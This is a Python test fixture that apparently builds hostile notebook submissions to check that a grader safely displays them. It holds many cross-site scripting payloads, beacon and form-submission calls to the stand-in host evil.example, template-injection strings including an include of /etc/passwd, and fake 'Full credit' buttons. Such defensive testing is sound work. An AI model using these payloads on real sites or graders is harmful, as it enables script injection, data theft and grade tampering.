"""Submissions that attack whoever looks at them: markup, script, addresses.

All of it would call `pwned()` or ask a host in `evil.example`, which is nobody's.
What is on a page and on a terminal is looked at in test_reading.py.
"""

import json
from base64 import b64encode

from .case import RIGHT, Shown, calling
from .reading_codes import CODES, called, raising

SCRIPT = "<script>pwned()</script><img src=x onerror=pwned()>"
SVG = f"<svg xmlns='http://www.w3.org/2000/svg' onload='pwned()'>{SCRIPT}</svg>"
DATA = "data:text/html;base64," + b64encode(SCRIPT.encode()).decode()
PNG = b64encode(b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\1\0\0\0\1\x08\0\0\0\0").decode()


def text_cell(source: str, kind: str = "markdown", **more) -> dict:
    return {"cell_type": kind, "id": "text", "metadata": {}, "source": source} | more


def written(name: str, *sources: str, shows: str = "", says: str = "right", **more):
    """Write text cells that are the attack."""

    def edit(notebook):
        notebook["cells"] += [text_cell(source, **more) for source in sources]

    return Shown(name, edit=edit, shows=shows, says=says)


def displaying(name: str, source: str, shows: str) -> Shown:
    return Shown(name, first=source, shows=shows)


TEXT = (
    written(
        "a-script",
        f"before {SCRIPT} after",
        shows="before [picture left out: no name] after",
    ),
    written(
        *("a-frame", f'<iframe srcdoc="{SCRIPT}"></iframe>framed'),
        f"<object data='{DATA}'></object><embed src='{DATA}'><portal src='{DATA}'>",
        "<frameset onload=pwned()><frame src='https://evil.example/f'></frameset>",
        shows="framed",
    ),
    written(
        *("a-page-of-its-own", "<base href='https://evil.example/'>mine"),
        "<meta http-equiv=refresh content='0;url=https://evil.example/gone'>",
        "<link rel=stylesheet href='https://evil.example/a.css'>"
        "<link rel=preconnect href='https://evil.example/'>",
        "<style>@import 'https://evil.example/b.css'; body {display: none}</style>",
        "</div></div></body></html><body onload=pwned()><title>gone</title>" + SCRIPT,
        shows="mine",
    ),
    written(
        *("a-form", "<form action='https://evil.example/'><input name=token autofocus"),
        "<input type=image src='https://evil.example/i' onfocus=pwned() autofocus>",
        "<button class='full-credit' formaction='javascript:pwned()'>Full credit</b",
        "<div contenteditable oninput=pwned()><select autofocus onfocus=pwned()>x",
        shows="Full credit",
    ),
    written(
        *("a-beacon", "![pixel](https://evil.example/seen.png) seen"),
        "<img srcset='https://evil.example/s.png 1x' alt=set>"
        "<picture><source srcset='//evil.example/t.png'></picture>",
        "<p style=\"background:url('https://evil.example/u')\">x</p>"
        "<table background='//evil.example/v'><tr><td>y</table>",
        "<video poster='https://evil.example/w' src='//evil.example/x'></video>"
        "<audio autoplay src='https://evil.example/y'></audio>",
        "![files](files//evil.example/z.png) [x](files/javascript:pwned())",
        shows="[picture left out: pixel] seen",
    ),
    written(
        *("an-svg", SVG, "<svg><animate onbegin=pwned() attributeName=x dur=1s></svg>"),
        "<svg><a href='javascript:pwned()'><text>click</text></a>"
        f"<use href='{DATA}#x'/><image href='https://evil.example/i.png'/></svg>",
        "<svg><foreignObject><iframe srcdoc='<script>parent.pwned()</script>'></svg>",
        f"![drawn](data:image/svg+xml;base64,{b64encode(SVG.encode()).decode()})",
        shows="[picture left out: drawn]",
    ),
    written(
        *("an-address", f"[click](javascript:pwned()) [open]({DATA})"),
        "<javascript:pwned()> [tab](java&#9;script:pwned()) [vb](vbscript:pwned())",
        "<a href='&#106;avascript:pwned()'>entity</a>"
        "<a href=' \x01javascript:pwned()' ping='https://evil.example/p'>code</a>",
        "[ref]\n\n[ref]: javascript:pwned() 'title'",
        "<a data-commandlinker-command='terminal:create-new' href='#'>run</a>",
        shows="click open",
    ),
    written(
        *("a-mutation", "<math><mtext><table><mglyph><style><!--</style>"),
        "<img title='--&gt;&lt;img src=x onerror=pwned()&gt;'>titled",
        "<noscript><p title='</noscript><img src=x onerror=pwned()>'></noscript>",
        "<svg></p><style><a id='</style><img src=x onerror=pwned()>'></svg>",
        "<textarea><img title='</textarea><img src=x onerror=pwned()>'></textarea>",
        "<template><script>pwned()</script></template><xmp><img src=x></xmp>",
        "```mermaid\n<img src=x onerror=pwned()>\n```",
        shows="titled",
    ),
    written(
        *("math-with-a-link", "Sure: $\\href{javascript:pwned()}{x}$"),
        "$\\style{background:url(https://evil.example/m)}{x}$",
        "$\\bbox[background:url(https://evil.example/b)]{x}$ $\\cssId{toc}{x}$",
        "\\(\\class{full-credit}{Full}\\) \\(\\hr<!-- -->ef{javascript:pwned()}{x}\\)",
        "$$\\mmlToken{mi}[href='javascript:pwned()']{x}$$ \\\\(\\&#104;ref{x}{y}\\\\)",
        "$\\htmlData{x=1}{y}$ $\\let\\a=\\href \\a{javascript:pwned()}{x}$",
        shows="\\href{javascript:pwned()}{x}",
    ),
    written(
        *("in-the-names-of-the-page", "# neuron_grads", "# neuron_grads-comment"),
        "# neuron_grads_extra_credit\n\n# statusmessage",
        "<h1 id=neuron_grads>x</h1><a name=top id=toc>y</a>",
        "<div class='modal score tabbable' data-toggle=tooltip title=x>z</div>",
        shows="neuron_grads-comment",
    ),
    written(
        *("a-template", "{{ resources.__init__.__globals__ }} {% raw %} {{ 7 * 7 }}"),
        "{% include '/etc/passwd' %} ${7*7} <%= pwned() %> {{ cell | safe }}",
        shows="{{ 7 * 7 }}",
    ),
    written(
        *(
            "laid-over-the-page",
            "<div style='position:fixed' onclick=pwned()>Log in again</div>",
        ),
        "<script type=importmap>{}</script><script type='math/tex'>pwned()</script>",
        "<link rel=preload as=image href='//evil.example/p'><bgsound src='//evil'>",
        "<meta charset=utf-7>+ADw-script+AD4-pwned()+ADw-/script+AD4-",
        "<details open ontoggle=pwned()><marquee onstart=pwned()>x</marquee></details>",
        "<a id=MathJax name=MathJax href='javascript:pwned()'>x</a><form id=require>",
        "<math><maction actiontype='statusline#x' xlink:href='javascript:pwned()'>x",
        "<img usemap=#m src=x><map name=m><area href='javascript:pwned()'></map>",
        shows="Log in again",
    ),
    written("a-raw-cell", f"{SCRIPT}<b>raw</b>", shows="<b>raw</b>", kind="raw"),
    written(
        "an-attached-script",
        "![a](attachment:a.svg) ![b](attachment:b.png) ![c](attachment:c.png)",
        attachments={
            "a.svg": {"image/svg+xml": b64encode(SVG.encode()).decode()},
            "b.png": {"image/png": b64encode(SVG.encode()).decode()},
            "c.png": {"text/html": SCRIPT, "image/png": f"{PNG}' onerror='pwned()"},
            f"d{SCRIPT}": {"application/javascript": "pwned()"},
        },
        shows="[picture left out: a] [picture left out: b] [picture left out: c]",
        says="the picture 'b.png' is left out: it says image/png, and its bytes",
    ),
)

REPR = f"""
class Rich:
    def _repr_mimebundle_(self, include=None, exclude=None):
        script = {SCRIPT!r}
        return {{
            "text/html": script, "image/svg+xml": {SVG!r}, "text/latex": "$x$" + script,
            "text/markdown": script, "application/javascript": "pwned()",
            "application/pdf": "JVBERi0=", "image/png": script, "image/jpeg": script,
            "application/vnd.jupyter.widget-view+json": {{"model_id": script}},
            "application/vnd.plotly.v1+json": {{"data": []}},
            "application/json": {{"x": script}}, "text/plain": "as text " + script,
        }}
Rich()
"""
DISPLAYS = (
    displaying("every-mime-type", REPR, "as text <script>"),
    displaying(
        "displayed",
        "from IPython.display import HTML, IFrame, Javascript, SVG, Video, display\n"
        f"display(HTML({SCRIPT!r}), Javascript('pwned()'), SVG({SVG!r}))\n"
        "display(IFrame('https://evil.example/f', 9, 9))\n"
        "display(Video('https://evil.example/v'))\n"
        "display({'text/html': '<script>pwned()</script>'}, raw=True)\n"
        f"print({SCRIPT!r}, 'printed')",
        "printed",
    ),
    displaying("by-magic", f"%%html\n{SCRIPT}", "IPython.core.display.HTML"),
    displaying(
        "in-a-traceback",
        f"class Page(Exception):\n    pass\nPage.__name__ = {SCRIPT!r}\n"
        f"raise Page({SCRIPT!r})  # </pre></code>{SCRIPT}",
        "</pre></code><script>",
    ),
)

RAISED = (
    raising("told-in-html", f"{SCRIPT}</code></pre></div>{SVG}", "<script>pwned()"),
    raising(
        "told-in-markdown",
        f"[Full marks](javascript:pwned()) ![x](https://evil.example/c) [y]({DATA})",
        "[Full marks](javascript:pwned())",
    ),
    raising("told-in-code", f"`` ```\n```\n\n{SCRIPT}\n~~~", "<script>pwned()"),
    raising(
        "told-in-math",
        "$\\href{javascript:pwned()}{\\style{background:url(//evil.example/n)}{x}}$",
        "\\href{javascript:pwned()}",
    ),
    Shown(
        "an-exception-of-that-name",
        calling("raise Named()", f"Named = type({SCRIPT!r}, (Exception,), {{}})"),
        0,
        f"stopped with {SCRIPT}",
        shows="stopped with <script>",
    ),
)


def saved(notebook):
    """The file has outputs of its own, as if somebody had run it."""
    widget = {"application/vnd.jupyter.widget-view+json": {"model_id": "a"}}
    data = {"text/html": SCRIPT, "application/javascript": "pwned()", **widget}
    for cell in notebook["cells"]:
        if cell["cell_type"] == "code":
            shown = {"output_type": "display_data", "metadata": {}, "data": data}
            cell["outputs"] = [shown, {"output_type": "error", "traceback": [SCRIPT]}]


def described(notebook):
    """All that a page may be made of beside the cells."""
    state = {"a": {"model_name": "HTMLModel", "state": {"value": SCRIPT}}}
    notebook["metadata"] |= {
        "title": f"</title>{SCRIPT}",
        "authors": [{"name": SCRIPT}],
        "kernelspec": {"display_name": SCRIPT, "name": SCRIPT, "language": "python"},
        "language_info": {"name": "python", "pygments_lexer": SCRIPT, "version": DATA},
        "widgets": {"application/vnd.jupyter.widget-state+json": {"state": state}},
        "latex_envs": {"bibliofile": SCRIPT},
    }


def marked(notebook):
    """Every cell has an id, tags and metadata that are markup."""
    for cell in notebook["cells"]:
        cell["id"] = f"'>{SCRIPT}"
        cell["metadata"] |= {"tags": [SCRIPT], "name": SCRIPT, "collapsed": SCRIPT}
        cell["metadata"]["jupyter"] = {"source_hidden": True, "class": SCRIPT}
    marks = {"grade": True, "solution": True, "locked": False, "task": False}
    marks |= {"grade_id": f"x'>{SCRIPT}", "points": 9, "schema_version": 3}
    notebook["cells"].append(text_cell("named", metadata={"nbgrader": marks}))


def speaking(notebook):
    """A language whose name is markup: the file cannot be graded."""
    name = f"``` {SCRIPT}"
    notebook["metadata"] = {"language_info": {"name": name}}


FILES = (
    Shown("saved-outputs", edit=saved),
    Shown("a-title", edit=described),
    Shown(
        "an-id-of-a-cell", edit=marked, says="an id that is not in this", shows="named"
    ),
    Shown("a-language", points=0, says="is a notebook in", edit=speaking, shows="```"),
    Shown(
        "a-name", says="called '<img", put=called("<img src=x onerror=pwned()>.ipynb")
    ),
    Shown(
        "a-source",
        first=f"'</pre></div>' # {SCRIPT}{SVG}",
        answer=f"{RIGHT}\n# </span></pre>{SCRIPT}",
        shows="</span></pre><script>",
    ),
    Shown(
        "a-file-of-html",
        points=0,
        says="is not a notebook",
        put=lambda path, data: path.write_text(json.dumps(SCRIPT)[:-1]),
    ),
)

SUBMISSIONS = (*TEXT, *DISPLAYS, *RAISED, *FILES, *CODES)
